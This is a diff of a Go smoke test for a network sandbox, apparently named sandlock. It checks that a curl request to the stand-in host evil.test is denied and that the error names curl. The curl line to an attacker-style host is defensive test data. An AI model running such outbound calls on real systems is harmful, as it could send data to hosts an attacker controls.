@@ -24,7 +24,7 @@ func TestSmoke(t *testing.T) {
 			n := lab.Nonce()
 			r := lab.Denied(t, lab.Denial{User: u, Flags: []string{"--allow", "allowed.test"}, Nonce: n,
 				Command: []string{"curl", "-sS", "https://evil.test/" + n}, Answer: "Could not resolve host", Log: "--allow evil.test:443"})
-			if !strings.Contains(r.Stderr, "sandlock: denied dns evil.test") {
+			if !strings.Contains(r.Stderr, "sandlock: denied dns evil.test by curl[") {
 				t.Errorf("no explanation: %s", r.Stderr)
 			}
 			lab.Denied(t, lab.Denial{User: u, Flags: []string{"--allow", "allowed.test"}, Nonce: n,
